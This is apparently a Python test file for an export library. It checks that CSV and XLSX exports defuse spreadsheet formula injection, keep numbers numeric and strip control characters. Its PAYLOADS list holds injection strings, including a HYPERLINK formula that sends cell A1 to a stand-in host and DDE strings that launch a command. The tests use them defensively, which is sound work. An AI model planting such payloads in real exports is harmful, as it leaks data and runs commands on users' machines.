"""lib.exports: no export carries a live formula, numbers stay numbers, control characters
never reach the file, and large sheets stream."""

import csv
import io
from datetime import date

from openpyxl import load_workbook

from nhandao.lib.exports import Sheet, csv_text, safe_text, xlsx_bytes

PAYLOADS = [
    '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_a_text_that_starts_like_a_formula_gets_an_apostrophe():
    for payload in PAYLOADS:
        assert safe_text(payload).startswith("'")
    assert safe_text("Nguyễn Văn An ủng hộ") == "Nguyễn Văn An ủng hộ"
    assert safe_text("-1500000") == "-1500000"
    assert safe_text("-1.500.000") == "-1.500.000"
    assert safe_text("a\x00b\x1bc\x85d") == "abcd"
    assert safe_text("dòng 1\ndòng 2") == "dòng 1\ndòng 2"


def test_csv_cells_are_inert_and_dates_read_vietnamese():
    text = csv_text(
        ["Nội dung", "Số tiền", "Ngày"],
        [[p, -50_000, date(2024, 9, 10)] for p in PAYLOADS],
        tags=["#description", "#value", "#date"],
    )
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[1] == ["#description", "#value", "#date"]
    for row in rows[2:]:
        assert row[0].startswith("'")
        assert row[1] == "-50000"
        assert row[2] == "10/09/2024"


def test_xlsx_never_stores_a_formula_and_keeps_the_text():
    data = xlsx_bytes(
        [Sheet("Dòng\x07 sao kê", ["Nội dung", "Số tiền"], [[p, -1] for p in PAYLOADS])]
    )
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == "Dòng sao kê"
    cells = [row for row in sheet.iter_rows(min_row=2)]
    assert len(cells) == len(PAYLOADS)
    for (text, amount), payload in zip(cells, PAYLOADS, strict=True):
        assert text.data_type == "s"
        assert text.value == payload
        assert amount.value == -1 and amount.data_type == "n"


def test_the_xlsx_file_has_no_formula_element_at_all():
    import zipfile

    data = xlsx_bytes([Sheet("s", ["a"], [[p] for p in PAYLOADS])])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
